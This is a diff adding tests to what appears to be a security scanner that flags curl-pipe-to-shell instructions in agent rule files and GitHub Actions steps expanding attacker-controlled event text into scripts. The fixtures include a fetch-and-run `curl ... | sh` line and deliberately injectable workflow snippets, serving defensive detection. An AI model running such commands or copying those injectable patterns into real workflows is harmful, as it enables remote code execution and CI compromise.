@@ -298,3 +298,31 @@ def test_instructions_telling_the_agent_to_pipe_a_download_into_a_shell_are_repo
         "AGENTS.md": "- Never run `curl https://x.example.io/i.sh | sh`; use the pinned release.\n",
     })
     assert _found(tmp_path, "provenance.curl") == [("provenance.curl-pipe-shell", "medium", ".windsurfrules", 3)]
+
+
+# -- GitHub Actions: outsider text expanded into scripts -------------------------------------------------------
+
+def _workflow(trigger: str, step: str) -> str:
+    return f"on:\n  {trigger}:\npermissions:\n  contents: read\njobs:\n  greet:\n    runs-on: ubuntu-latest\n" \
+           f"    steps:\n{step}"
+
+
+def test_outsider_event_text_inside_a_run_or_github_script_step_is_reported(tmp_path):
+    shell = lay_out(tmp_path / "shell", {".github/workflows/w.yml": _workflow(
+        "pull_request_target", "      - run: |\n          git switch -c \"${{ github.head_ref }}\"\n")})
+    script = lay_out(tmp_path / "script", {".github/workflows/w.yml": _workflow(
+        "discussion", "      - uses: actions/github-script@v7\n        with:\n          script: |\n"
+                      "            core.info('${{ github.event.discussion.title }}')\n")})
+    fork_only = lay_out(tmp_path / "fork", {".github/workflows/w.yml": _workflow(
+        "pull_request", "      - run: echo \"${{ github.event.pull_request.title }}\"\n")})
+    assert _found(shell, "code.") == [("code.workflow-expression", "high", ".github/workflows/w.yml", 10)]
+    assert _found(script, "code.") == [("code.workflow-expression", "high", ".github/workflows/w.yml", 12)]
+    # a fork's pull_request run has a read-only token and no secrets: low
+    assert _found(fork_only, "code.") == [("code.workflow-expression", "low", ".github/workflows/w.yml", 9)]
+
+
+def test_event_text_passed_through_env_or_trusted_fields_in_run_are_not_reported(tmp_path):
+    lay_out(tmp_path, {".github/workflows/w.yml": _workflow(
+        "issues", "      - env:\n          TITLE: ${{ github.event.issue.title }}\n"
+                  "        run: echo \"$TITLE\" ${{ github.event.issue.number }} ${{ github.repository }}\n")})
+    assert _found(tmp_path, "code.") == []
